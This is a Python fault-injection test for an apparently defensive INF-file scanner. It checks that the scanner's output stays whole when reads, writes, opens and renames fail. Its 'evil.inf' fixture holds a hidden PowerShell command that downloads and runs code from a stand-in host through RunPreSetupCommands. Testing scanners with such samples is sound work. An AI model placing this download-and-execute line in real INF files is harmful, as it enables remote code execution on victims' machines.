#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Files that cannot be read or written to the end: io.py SHIM

INFSCAN names the program, SHIM the library of io_shim.c. For each way to run
the program, each kind of call fails at its first time, its second, and so on
until it is not called so often; and every read and write takes one byte only.
Whatever fails: no signal, an exit status of the manual, whole records that a
JSON reader takes, no temporary file left, and a results file whole or not
there. Where a record or a verdict is missing, the records or standard error say
why.
"""
import errno
import json
import os
import shutil
import subprocess
import sys
import tempfile

CLEAN = '[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nCopyFiles=@a.txt\r\n'
EVIL = CLEAN + (
    "RunPreSetupCommands=r\r\n[r]\r\n"
    "powershell -w hidden -c iex(iwr http://a.example.invalid/x)\r\n"
)
STATUSES = {0, 1, 2, 3, 141}

# name, arguments, standard input
RUNS = [
    ("one", ["-f", "ndjson", "evil.inf"], b""),
    ("folder", ["-f", "ndjson", "-j2", "."], b""),
    ("file", ["-f", "ndjson", "-o", "out", "clean.inf", "evil.inf"], b""),
    ("array", ["-f", "json", "clean.inf", "evil.inf"], b""),
    ("list", ["-f", "ndjson", "--files-from", "-"], b"clean.inf\nevil.inf\n"),
    ("stream", ["--stream"], b'{"id":"a","path":"clean.inf"}\n{"path":"evil.inf"}\n'),
    ("stdin", ["-f", "ndjson", "-"], EVIL.encode()),
    ("dump", ["dump", "-f", "ndjson", "evil.inf"], b""),
    ("decode", ["decode", "-f", "ndjson", "-"], b"cmd /c x\ncmd /c y\n"),
    ("rules", ["-f", "ndjson", "--no-builtin-rules", "--rules", "rules.yml", "evil.inf"], b""),
]
FAILURES = [
    ("read", errno.EIO),
    ("read", errno.EINTR),
    ("write", errno.ENOSPC),
    ("write", errno.EPIPE),
    ("write", errno.EINTR),
    ("open", errno.EMFILE),
    ("fstat", errno.EIO),
    ("close", errno.EDQUOT),
    ("rename", errno.EXDEV),
]
MOST_CALLS = 60


class Run:
    def __init__(self, arguments, given, call, at, how):
        self.folder = tempfile.mkdtemp(prefix="infscan-io-")
        work = os.path.join(self.folder, "work")
        os.mkdir(work)
        for name, text in (("clean.inf", CLEAN), ("evil.inf", EVIL)):
            with open(os.path.join(work, name), "w", newline="") as file:
                file.write(text)
        shutil.copy(RULES, os.path.join(work, "rules.yml"))
        told = os.path.join(self.folder, "told")
        # The sandbox is left off: the shim makes files of its own.
        env = dict(os.environ, LD_PRELOAD=SHIM, IO_CALL=call, IO_AT=str(at),
                   IO_ERRNO=str(how), IO_TOLD=told)
        done = subprocess.run(
            [INFSCAN, *arguments, "--sandbox", "off"],
            cwd=work, env=env, input=given, capture_output=True, timeout=300, check=False)
        self.status = done.returncode
        self.out = done.stdout
        self.errors = done.stderr
        self.failed = os.path.exists(told)
        self.left = sorted(os.listdir(work))
        result = os.path.join(work, "out")
        if os.path.exists(result):
            with open(result, "rb") as file:
                self.out = file.read()
        shutil.rmtree(self.folder)

    def records(self, arguments):
        if "json" in arguments:
            return json.loads(self.out) if self.out else []
        return [json.loads(line) for line in self.out.splitlines()]

    def verdicts(self, arguments):
        return [(r.get("path"), r.get("verdict")) for r in self.records(arguments)]


def faults(run, whole, arguments, call):
    """What is wrong with one run, as texts."""
    if run.status not in STATUSES:
        yield "exit status %d" % run.status
    temporary = [n for n in run.left if n.startswith("out.")]
    if temporary:
        yield "left behind: %s" % temporary[0]
    if "-o" in arguments and run.status == 2 and "out" in run.left:
        yield "exit status 2, and a results file"
    if call == "write":
        return  # what could not be written is not there to be read
    try:
        records = run.records(arguments)
    except ValueError as error:
        yield "not JSON: %s" % error
        return
    told = run.errors or any(r.get("status") in ("error", "partial") for r in records)
    got = run.verdicts(arguments)
    # More may be said: a file that cannot be told to be no INF is analysed.
    if not told and any(said not in got for said in whole.verdicts(arguments)):
        yield "something is missing, and nothing says so"


def main():
    bad = 0
    n = 0
    for name, arguments, given in RUNS:
        whole = Run(arguments, given, "none", 0, 0)
        for call, code in FAILURES:
            for at in range(1, MOST_CALLS):
                run = Run(arguments, given, call, at, code)
                if not run.failed:
                    break
                n += 1
                said = list(faults(run, whole, arguments, call))
                if code == errno.EINTR and (run.out, run.status) != (whole.out, whole.status):
                    said.append("an interrupted call is not taken up again")
                for fault in said:
                    bad += 1
                    print("%s: %s %d fails with %s: %s" % (
                        name, call, at, errno.errorcode[code], fault))
                    sys.stdout.write(run.errors.decode("utf-8", "replace"))
        for call in ("read", "write"):
            run = Run(arguments, given, call, "all", "short")
            n += 1
            if (run.out, run.status) != (whole.out, whole.status):
                bad += 1
                print("%s: short %ss change the result" % (name, call))
    print("%d runs, %d faults" % (n, bad))
    sys.exit(bad != 0 or n < 50)


INFSCAN = os.path.abspath(os.environ["INFSCAN"])
SHIM = os.path.abspath(sys.argv[1])
RULES = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                     "cli", "input", "rules.yml")
main()
